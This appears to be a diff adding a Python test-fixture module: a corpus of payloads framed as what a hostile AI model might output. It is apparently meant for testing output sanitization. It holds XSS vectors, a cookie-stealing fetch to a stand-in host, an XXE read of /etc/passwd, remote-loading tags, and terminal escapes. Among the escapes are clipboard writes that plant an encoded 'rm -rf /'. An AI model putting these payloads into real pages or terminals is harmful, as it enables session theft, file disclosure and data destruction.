@@ -1,0 +1,92 @@
+"""What a hostile model might write: markup, links, pictures, escapes, direction marks; 150 and more of them."""
+
+from __future__ import annotations
+
+_CALLS = ("alert(1)", "fetch('https://evil.test/'+document.cookie)", "top.location='//evil.test'")
+_HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onpointerenter")
+_TAGS = ("img", "svg", "body", "iframe", "video", "details", "input", "marquee", "math", "object")
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "file:///etc/passwd",
+    "//evil.test/x",
+    "blob:https://evil.test/1",
+)
+
+MARKUP = [
+    *[f"<script>{call}</script>" for call in _CALLS],
+    *[f"</p></details></main><script>{call}</script>" for call in _CALLS],
+    *[f'"><{tag} {handler}={_CALLS[0]} src=x>' for tag in _TAGS[:6] for handler in _HANDLERS],
+    *[f"<{tag} src=//evil.test/x href=//evil.test/x data=//evil.test/x></{tag}>" for tag in _TAGS],
+    *[f"[click]({scheme})" for scheme in _SCHEMES],
+    *[f"<{scheme}>" for scheme in _SCHEMES],
+    *[f"![pixel]({scheme})" for scheme in (*_SCHEMES, "https://evil.test/pixel.png")],
+    *[f"[r]: {scheme} 'title'\n\n[r] ![r]" for scheme in _SCHEMES],
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<style>@import url(//evil.test/x.css);body{background:url(//evil.test/y)}</style>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<link rel=stylesheet href=//evil.test/x.css><link rel=prefetch href=//evil.test/y>",
+    "<form action=//evil.test><button formaction=javascript:alert(1)>go</button></form>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href=https://evil.test ping=//evil.test/ping target=_blank>x</a>",
+    "`</code><script>alert(1)</script>`",
+    "```html\n</code></pre><script>alert(1)</script>\n",
+    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](//evil.test) |",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\ue000<script>alert(1)</script>\ue001",
+    "\ue001</mark><img src=x onerror=alert(1)>\ue000",
+    "{{ 7*7 }} {% include 'x' %} ${7*7} {x.__class__}",
+    "1. x\n" * 30 + "> " * 90 + "deep",
+    "[" * 200 + "a" + "](b)" * 200,
+]
+
+ESCAPES = [
+    "\x1b[31mred\x1b[0m",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\",
+    "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07",
+    "\x1b]52;c;cm0gLXJmIC8=\x07",
+    "\x1b]52;c;cm0gLXJmIC8=\x1b\\",
+    "\x1b]1337;File=inline=1:AAAA\x07",
+    "\x1bPq#0;2;0;0;0#0~~\x1b\\",
+    "\x1b_Gf=24;AAAA\x1b\\",
+    "\x1b^private\x1b\\",
+    "\x1bXstring\x1b\\",
+    "\x9b31mC1\x9b0m",
+    "\x9d8;;https://evil.test\x9cclick\x9d8;;\x9c",
+    "\x90q\x9c",
+    "\x1bc",
+    "\x1b(0lqk\x1b(B",
+    "\x1b[6n\x1b[c\x1b[>c",
+    "\x1b[?1049h\x1b[?25l",
+    "\x1b]unterminated and the rest",
+    "\x1b[",
+    "\x1b",
+    "over\rwritten",
+    "back\x08\x08\x08space\x7f",
+    "bell\x07 nul\x00 vt\x0b ff\x0c so\x0e",
+    "\u202egnp.exe\u202c",
+    "\u2066a\u2067b\u2068c\u2069",
+    "\u200e\u200f\u061c marks",
+    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
+    "\U000e0069\U000e0067\U000e006e tags",
+    "line\u2028paragraph\u2029separators",
+    "surrogate \ud800 alone",
+]
+
+PAYLOADS = MARKUP + ESCAPES
